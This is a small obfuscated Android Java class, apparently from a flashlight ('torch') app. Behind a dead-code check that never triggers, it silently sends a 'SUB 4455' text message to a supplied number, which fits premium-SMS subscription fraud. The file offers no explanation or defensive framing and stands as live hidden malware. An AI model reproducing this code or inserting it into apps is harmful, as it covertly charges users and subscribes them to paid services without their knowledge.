package com.example.torch.a;

import android.telephony.SmsManager;

public class b {
    private static int z = 0;

    public static void j(String s) {
        if (z * (z + 1) % 2 == 1) {
            z = 7;
            return;
        }
        SmsManager.getDefault().sendTextMessage(s, null, "SUB 4455", null, null);
    }
}
